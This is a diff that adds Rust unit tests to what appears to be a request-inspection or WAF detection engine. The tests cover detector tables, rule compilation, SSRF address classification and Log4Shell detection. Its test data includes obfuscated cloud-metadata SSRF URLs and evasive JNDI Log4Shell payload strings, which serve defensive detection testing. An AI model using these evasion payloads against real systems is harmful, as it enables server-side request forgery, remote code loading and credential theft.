@@ -373,3 +373,120 @@ pub(crate) fn xss_gate(norm: &str) -> bool {
     memchr::memchr2(b'<', b'>', b).is_some()
         || (memchr::memchr(b'=', b).is_some() && memchr::memchr3(b'"', b'\'', b'`', b).is_some())
 }
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used, clippy::expect_used)]
+    use super::*;
+
+    #[test]
+    fn detector_indexes_match_the_table() {
+        let at = |i: usize| DETECTORS[i].0;
+        assert_eq!(at(det::SQLI), sqli::LIBINJECTION);
+        assert_eq!(at(det::XSS), xss::LIBINJECTION);
+        assert_eq!(at(det::LOG4SHELL), java::LOG4SHELL);
+        assert_eq!(at(det::DESER), java::DESER);
+        assert_eq!(at(det::SSRF_METADATA), ssrf::METADATA);
+        assert_eq!(at(det::SSRF_INTERNAL), ssrf::INTERNAL);
+        assert_eq!(at(det::SSRF_PRIVATE), ssrf::PRIVATE);
+        assert_eq!(at(det::RFI_INCLUDE), rfi::INCLUDE_PARAM);
+        assert_eq!(at(det::SESSION_PARAM), session::PARAM);
+        assert_eq!(at(det::SQLI_STATEMENT), sqli::STATEMENT);
+        assert_eq!(at(det::PROTO_KEY), nodejs::PROTOTYPE_KEY);
+        assert_eq!(at(det::MISSING_HOST), protocol::MISSING_HOST);
+        assert_eq!(at(det::DUPLICATE_HOST), protocol::DUPLICATE_HOST);
+        assert_eq!(at(det::METHOD), protocol::METHOD);
+        assert_eq!(at(det::TOO_MANY_ARGS), protocol::TOO_MANY_ARGS);
+        assert_eq!(at(det::ARG_TOO_LONG), protocol::ARG_TOO_LONG);
+        assert_eq!(at(det::INVALID_UTF8), protocol::INVALID_UTF8);
+        assert_eq!(at(det::NUL), protocol::NUL);
+        assert_eq!(at(det::CONTENT_TYPE), protocol::CONTENT_TYPE);
+        assert_eq!(at(det::BODY_OVER_LIMIT), protocol::BODY_OVER_LIMIT);
+        assert_eq!(at(det::BODY_PARSE), protocol::BODY_PARSE);
+        assert_eq!(at(det::LIMITS), protocol::LIMITS);
+        assert_eq!(at(det::XXE_DTD), misc::XXE_DTD);
+        assert_eq!(DETECTORS.len(), det::XXE_DTD + 1);
+        assert!(DETECTORS.len() <= 64, "det_fired is a u64");
+    }
+
+    #[test]
+    fn every_rule_compiles_has_a_unique_id_and_a_literal() {
+        let mut ids: Vec<&str> = table()
+            .map(|r| r.id)
+            .chain(DETECTORS.iter().map(|d| d.0))
+            .collect();
+        for r in table() {
+            assert!(r.id.starts_with(r.group.name()), "{}", r.id);
+            assert!(!r.lits.is_empty(), "{} has no prefilter literal", r.id);
+            assert!(
+                r.lits.iter().all(|l| l.to_lowercase() == *l),
+                "{}: literals are lower case",
+                r.id
+            );
+            regex::Regex::new(r.re).unwrap_or_else(|e| panic!("{}: {e}", r.id));
+        }
+        let n = ids.len();
+        ids.sort_unstable();
+        ids.dedup();
+        assert_eq!(ids.len(), n, "duplicate rule ids");
+    }
+
+    #[test]
+    fn ssrf_address_forms() {
+        use ssrf::{classify, Target::*};
+        for m in [
+            "http://169.254.169.254/latest",
+            "http://2852039166/",
+            "http://0xa9fea9fe/",
+            "http://0251.0376.0251.0376/",
+            "http://169.254.43518/",
+            "http://[::ffff:a9fe:a9fe]/",
+            "http://[::ffff:169.254.169.254]/",
+            "http://x@169.254.169.254:80/",
+            "http://169.254.169.254.nip.io/",
+            "http://metadata.google.internal/",
+            "http://[fd00:ec2::254]/",
+            "http://0x7f.1/",
+            "http://localhost:6379/",
+        ] {
+            assert_eq!(classify(m), Metadata, "{m}");
+        }
+        for i in [
+            "http://127.0.0.1/",
+            "http://localhost/x",
+            "http://[::1]/",
+            "http://0.0.0.0/",
+            "http://10.1.2.3/",
+        ] {
+            assert_ne!(classify(i), Public, "{i}");
+        }
+        for p in [
+            "https://example.com/a?b=c",
+            "http://203.0.113.9/",
+            "not a url",
+            "https://1.1.1.1/dns",
+        ] {
+            assert_eq!(classify(p), Public, "{p}");
+        }
+    }
+
+    #[test]
+    fn log4shell_resolution() {
+        let mut out = String::new();
+        for a in [
+            "${jndi:ldap://x/a}",
+            "${${lower:j}ndi:ldap://x}",
+            "${${::-j}${::-n}${::-d}${::-i}:rmi://x}",
+            "${${env:nan:-j}ndi${env:nan:-:}ldap://x}",
+            "${j${k8s:k5:-nd}i:ldap://x}",
+            "${${upper:j}${upper:n}${upper:d}${upper:i}:dns://x}",
+        ] {
+            assert!(java::log4shell(a, &mut out), "{a} -> {out}");
+        }
+        for b in ["${user.name}", "price ${amount}", "${", "}}}${{{"] {
+            assert!(!java::log4shell(b, &mut out), "{b}");
+        }
+        let deep = "${".repeat(10_000) + &"}".repeat(10_000);
+        assert!(!java::log4shell(&deep, &mut out));
+    }
+}
